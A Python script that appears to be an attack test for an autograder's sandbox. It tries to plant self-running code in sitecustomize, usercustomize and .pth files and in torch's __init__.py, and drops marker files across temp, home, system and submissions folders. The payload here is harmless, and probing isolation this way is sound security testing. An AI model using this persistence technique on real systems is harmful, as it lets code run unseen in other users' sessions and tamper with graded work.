# attack: plant code and files for the next submission: site-packages (sitecustomize, .pth, torch itself), the course, the submissions folder, shared temp folders, the home folder, the hypothesis database
# expect: full
import os
import sys

import torch

_PLANT = "import os; os.system('touch /tmp/ag-attack-planted-code-ran')\n"
_targets = []
for _p in sys.path + [os.path.dirname(torch.__file__), "/usr/lib/python3/dist-packages", "/usr/local/lib"]:
    if _p and os.path.isdir(_p):
        _targets += [os.path.join(_p, "sitecustomize.py"), os.path.join(_p, "usercustomize.py"),
                     os.path.join(_p, "ag-attack.pth"), os.path.join(_p, "ag-attack-module.py")]
_targets += [os.path.join(os.path.dirname(torch.__file__), "__init__.py")]
for _d in ("/tmp", "/var/tmp", "/dev/shm", "/root", "/home", os.path.expanduser("~"), os.getcwd(), "/etc",
           "/opt", "/srv", "/work", "/usr/local/bin", "/run", "/run/lock"):
    _targets.append(os.path.join(_d, "ag-attack-marker"))
# Folders the course or a batch would use, wherever they are mounted.
for _root, _dirs, _files in os.walk("/", onerror=lambda e: None):
    if _root.startswith(("/proc", "/sys", "/dev", "/usr")):
        _dirs[:] = []
        continue
    for _d in _dirs:
        if _d in ("hidden", "solutions", "submissions", ".hypothesis", "feedback") or _d.startswith("pytest-of"):
            _targets.append(os.path.join(_root, _d, "ag-attack-marker"))

_wrote = []
for _path in _targets:
    _shared = not _path.startswith(("/tmp/", "/var/tmp/", "/dev/shm/", os.path.expanduser("~") + "/",
                                    os.getcwd() + "/"))
    try:
        with open(_path, "a") as _f:
            _f.write(_PLANT if _path.endswith((".py", ".pth")) else "x")
        _wrote.append(_path)
        if _shared:
            print("ATTACK-BREACH wrote", _path, flush=True)
    except OSError:
        pass
print("wrote (private to this worker):", [p for p in _wrote])
